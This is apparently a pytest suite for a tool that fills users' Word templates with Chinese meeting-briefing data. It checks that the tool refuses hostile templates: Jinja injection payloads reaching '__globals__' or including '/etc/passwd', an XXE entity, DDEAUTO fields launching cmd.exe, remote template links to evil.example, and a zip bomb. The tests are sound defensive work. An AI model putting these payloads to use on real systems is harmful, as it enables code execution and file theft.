"""A user's own Word template: filled as it is, or refused for a reason one can act on."""

from __future__ import annotations

import multiprocessing
import zipfile
from collections.abc import Mapping
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from mintobrief.domain import Briefing
from mintobrief.errors import BadTemplate, FileGone, IsFolder
from mintobrief.export import PROFILES, Edition, Letterhead
from mintobrief.export.letterhead import PLAIN
from mintobrief.export.template import write_from_template
from mintobrief.export.template.bounded import fill_bounded
from mintobrief.export.template.fields import FIELDS, Value, filled_fields, values_of
from mintobrief.export.template.fill import Filled, fill
from mintobrief.export.template.starter import starter
from mintobrief.ingest.docx import read_docx
from tests.export.papers import LONG, MARKED, attended_by, briefing_of, decided

RELS = "word/_rels/document.xml.rels"


def template(*lines: str, header: str = "") -> bytes:
    """A plain document with these paragraphs."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    document.sections[0].header.paragraphs[0].text = header
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def repacked(content: bytes, changed: Mapping[str, bytes]) -> bytes:
    """The document with parts put in the place of its own, or added."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w") as new:
        kept = [name for name in old.namelist() if name not in changed]
        for name in kept:
            new.writestr(name, old.read(name))
        for name, part in changed.items():
            new.writestr(name, part, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as package:
        return package.read(name)


def text_of(filled: Filled, folder: Path) -> str:
    assert not filled.refused, filled.refused
    (folder / "b.docx").write_bytes(filled.content)
    return read_docx(folder / "b.docx")


@pytest.fixture
def values(briefing: Briefing) -> dict[str, Value]:
    return values_of(briefing, Edition.ARCHIVE, PLAIN)


def test_the_fields_are_those_that_are_told_of(values: dict[str, Value]) -> None:
    """What a template may name is what it gets."""
    assert values.keys() == FIELDS.keys()


@pytest.mark.parametrize("profile", PROFILES)
def test_the_starter_can_be_filled_and_lacks_nothing(
    briefing: Briefing, profile: str, tmp_path: Path
) -> None:
    """Every profile's; the document holds every resolution with owner and time limit."""
    head = Letterhead(profile=profile, mark="内部资料", issuer="锦绣社区")
    (tmp_path / "t.docx").write_bytes(starter(head))
    made = tmp_path / "b.docx"
    told = write_from_template(briefing, tmp_path / "t.docx", made, Edition.ARCHIVE, head)
    lines = read_docx(made).split("\n")
    assert told == ()
    assert "（一）更换3号楼两部电梯的钢丝绳" in lines
    assert "责任主体：张伟、恒安物业公司" in lines
    assert "完成时限：下周五前（2026年3月20日 星期五）" in lines
    assert not any("{" in line for line in lines)


def test_fields_that_a_template_lacks_are_told(briefing: Briefing, tmp_path: Path) -> None:
    """Only those that hold something of this meeting: nothing is left out unsaid."""
    (tmp_path / "t.docx").write_bytes(
        template("{{ 标题 }}", "{% for 决 in 决议 %}{{ 决.内容 }}{{ 决.责任 }}{% endfor %}")
    )
    told = write_from_template(
        briefing, tmp_path / "t.docx", tmp_path / "b.docx", Edition.ARCHIVE, PLAIN
    )
    assert {"会议时间", "参会人员", "议题", "决议.时限", "决议.表决"} <= set(told)
    assert not {"决议", "标题", "落实", "密级", "议题.名称"} & set(told)


def test_what_the_meeting_did_not_settle_is_red(values: dict[str, Value], tmp_path: Path) -> None:
    """The words alone; the rest of the line keeps its looks."""
    words = "（会议未明确记录人）"
    filled = fill(template("记录：{{ 记录人 }}。完"), values, (words,))
    [paragraph] = Document(BytesIO(filled.content)).paragraphs
    assert [(run.text, str(run.font.color.rgb)) for run in paragraph.runs] == [
        ("记录：", "None"),
        (words, "FF0000"),
        ("。完", "None"),
    ]


@pytest.mark.parametrize("place", ["body", "header"])
def test_marks_in_a_name_are_words(place: str, tmp_path: Path) -> None:
    """<&= is printed; {{ }} in what was said is not run."""
    given_values = values_of(attended_by(MARKED), Edition.ARCHIVE, PLAIN)
    asked = "{{ 主持人 }}"
    content = template(asked) if place == "body" else template("正文", header=asked)
    filled = fill(content, given_values, ())
    document = Document(BytesIO(filled.content))
    found = document if place == "body" else document.sections[0].header
    assert found.paragraphs[0].text == f"{MARKED}（{MARKED}）"


@given(words=st.text(min_size=1, max_size=60).filter(str.strip))
@settings(max_examples=25, deadline=None)
def test_whatever_was_resolved_is_printed(words: str) -> None:
    """As our own exporter prints it: nothing lost, nothing added."""
    given_values = values_of(decided(words), Edition.ARCHIVE, PLAIN)
    content = template("{% for 决 in 决议 %}{{ 决.内容 }}{% endfor %}")
    document = Document(BytesIO(fill(content, given_values, ()).content))
    match given_values["决议"]:
        case [{"内容": printed}]:
            assert document.paragraphs[0].text == printed
        case other:
            pytest.fail(f"no single resolution: {other}")


def test_long_words_and_many_topics_are_filled_in(tmp_path: Path) -> None:
    """2,000 characters, 60 topics."""
    long = values_of(decided(LONG), Edition.ARCHIVE, PLAIN)
    many = values_of(briefing_of(60), Edition.ARCHIVE, PLAIN)
    assert LONG in text_of(fill(starter(PLAIN), long, ()), tmp_path)
    assert "（六十）第59项议题" in text_of(fill(starter(PLAIN), many, ()), tmp_path)


def test_a_misspelt_field_is_told_with_the_one_that_was_meant(values: dict[str, Value]) -> None:
    assert (
        "没有“会议地址”这个字段，是不是“会议地点”"
        in fill(template("{{ 会议地址 }}"), values, ()).refused
    )
    refused = fill(template("{% for 决 in 决议 %}{{ 决.负责 }}{% endfor %}"), values, ()).refused
    assert "决议.负责" in refused


HOSTILE = {
    "a class behind a value": "{{ 标题.__class__.__mro__ }}",
    "a method": "{{ 标题.format(1) }}",
    "a call": "{{ range(1000000000) }}",
    "the globals of a function": "{{ cycler.__init__.__globals__ }}",
    "an item": "{{ 标题['__class__'] }}",
    "a filter that reaches attributes": "{{ 标题|attr('__class__') }}",
    "a filter that grows words": "{{ 标题|replace('会', '会会会会') }}",
    "a filter that lets markup through": "{{ 标题|safe }}",
    "a loop over numbers": "{% for a in range(99999) %}x{% endfor %}",
    "a loop over characters": "{% for a in 标题 %}{% for b in 标题 %}x{% endfor %}{% endfor %}",
    "words times a number": "{{ 标题 * 1000000000 }}",
    "a power": "{{ 9 ** 999999999 }}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "another file": "{% include '/etc/passwd' %}",
    "a variable": "{% set x = 标题 %}{{ x }}",
    "loops in loops": "{% for a in 决议 %}{% for b in 决议 %}{% for c in 决议 %}"
    "{% for d in 决议 %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "a tag without end": "{% for a in 决议 %}x",
    "words outside of the text": "{{p 标题 }}",
}


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("place", ["body", "header"])
def test_a_template_that_would_be_a_program_is_refused(
    words: str, place: str, values: dict[str, Value]
) -> None:
    """Before any of it is rendered, in Chinese."""
    content = template(words) if place == "body" else template("正文", header=words)
    filled = fill(content, values, ())
    assert filled.content == b""
    assert any("\u4e00" <= character <= "\u9fff" for character in filled.refused)


def test_a_tag_in_the_properties_is_read_too(values: dict[str, Value]) -> None:
    """docxtpl renders the document's title as well."""
    document = Document()
    document.core_properties.title = "{{ 标题.__class__ }}"
    file = BytesIO()
    document.save(file)
    assert "没有字段" in fill(file.getvalue(), values, ()).refused


def bomb() -> bytes:
    content = template("{{ 标题 }}")
    filler = b"<!--" + b" " * 50_000_000 + b"-->"
    return repacked(content, {"word/document.xml": part(content, "word/document.xml") + filler})


def with_relationship(target: str, kind: str) -> bytes:
    content = template("{{ 标题 }}")
    link = (
        f'<Relationship Id="rId99" TargetMode="External" Target="{target}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
    )
    changed = part(content, RELS).replace(b"</Relationships>", link.encode() + b"</Relationships>")
    return repacked(content, {RELS: changed})


def with_words(before: bytes, after: bytes) -> bytes:
    content = template("{{ 标题 }}")
    changed = part(content, "word/document.xml").replace(before, after, 1)
    return repacked(content, {"word/document.xml": changed})


ENTITY = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><w:document '
FIELD = b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body>"
PIECES = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    b"<w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body>"
)
STRANGE = (
    b'<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"<x:Relationship Id='r' TargetMode='Extern&#97;l' Target='http://e.example' Type='x/image'/>"
    b"</x:Relationships>"
)


def liar() -> bytes:
    """Both places where the zip says how large the document is say 100 bytes."""
    content = template("{{ 标题 }}")
    size = len(part(content, "word/document.xml")).to_bytes(4, "little")
    return content.replace(size, (100).to_bytes(4, "little"))


PACKAGES = {
    "no zip": (lambda: b"PK\x03\x04 nothing", "不是 Word 文档"),
    "no document": (lambda: b"%PDF-1.7", "不是 Word 文档"),
    "empty": (lambda: b"", "不是 Word 文档"),
    "a bomb": (bomb, "压缩"),
    "a macro": (lambda: repacked(template("x"), {"word/vbaProject.bin": b"x"}), "宏"),
    "an object": (lambda: repacked(template("x"), {"word/embeddings/o.xlsx": b"x"}), "嵌入"),
    "a template elsewhere": (
        lambda: with_relationship("http://evil.example/t.dotm", "attachedTemplate"),
        "指向外部",
    ),
    "a picture elsewhere": (
        lambda: with_relationship("http://evil.example/p.png", "image"),
        "指向外部",
    ),
    "an entity": (lambda: with_words(b"<w:document ", ENTITY), "文档类型声明"),
    "a field that runs": (lambda: with_words(b"</w:body>", FIELD), "域"),
    "a field that runs, in pieces": (lambda: with_words(b"</w:body>", PIECES), "域"),
    "a page of its own": (lambda: repacked(template("x"), {"word/c.html": b"x"}), "嵌入"),
    "a link written strangely": (
        lambda: repacked(template("x"), {"word/_rels/x.xml.rels": STRANGE}),
        "指向外部",
    ),
    "a part that is larger than it says": (liar, "损坏"),
    "broken XML": (lambda: with_words(b"</w:body>", b"<w:p>"), "结构不完整"),
}


@pytest.mark.parametrize(("make", "reason"), PACKAGES.values(), ids=PACKAGES)
def test_a_file_that_is_more_than_words_is_refused(
    make: object, reason: str, values: dict[str, Value]
) -> None:
    """Before it is opened as a document."""
    assert callable(make)
    filled = fill(make(), values, ())
    assert reason in filled.refused
    assert filled.content == b""


def test_a_hyperlink_is_no_danger(values: dict[str, Value]) -> None:
    """It fetches nothing until somebody clicks it."""
    assert fill(with_relationship("https://www.gov.cn/", "hyperlink"), values, ()).content


@pytest.mark.parametrize("tag", ["{%", "{{", "{#"])
def test_a_page_of_opened_tags_is_refused_before_it_is_read(
    tag: str, values: dict[str, Value]
) -> None:
    """docxtpl's patterns take the square of their number: of 100,000 it would take minutes."""
    assert fill(template(tag * 100_000), values, ()).refused == "里面的标记太多"


def test_a_child_that_is_late_is_killed(values: dict[str, Value]) -> None:
    """A process of its own does not begin in a hundredth of a second."""
    filled = fill_bounded(template("{{ 标题 }}"), values, (), seconds=0.01)
    assert filled == Filled(refused="0.01 秒内没有填完")
    assert not multiprocessing.active_children()


def test_a_bounded_filling_is_the_same(values: dict[str, Value]) -> None:
    """Through the other process and back."""
    content = template("{{ 标题 }}")
    there, here = fill_bounded(content, values, ()), fill(content, values, ())
    assert there.used == here.used == {"标题"}
    assert Document(BytesIO(there.content)).paragraphs[0].text == values["标题"]


def test_a_refused_template_writes_nothing(briefing: Briefing, tmp_path: Path) -> None:
    """The error names the file, says why, and how to get one that works."""
    (tmp_path / "t.docx").write_bytes(template("{{ 地址 }}"))
    with pytest.raises(BadTemplate, match=r"模板 t\.docx 用不了.*mintobrief template"):
        write_from_template(briefing, tmp_path / "t.docx", tmp_path / "b.docx", Edition.ARCHIVE)
    assert not (tmp_path / "b.docx").exists()


def test_a_template_that_is_not_there_is_told(briefing: Briefing, tmp_path: Path) -> None:
    with pytest.raises(FileGone):
        write_from_template(briefing, tmp_path / "t.docx", tmp_path / "b", Edition.ARCHIVE)
    with pytest.raises(IsFolder):
        write_from_template(briefing, tmp_path, tmp_path / "b", Edition.ARCHIVE)


def test_empty_fields_are_not_missed() -> None:
    """Only what holds something can be lacking."""
    values: dict[str, Value] = {"密级": "", "决议": [{"内容": "修门", "监督": "", "序号": "一"}]}
    assert filled_fields(values) == {"决议", "决议.内容"}
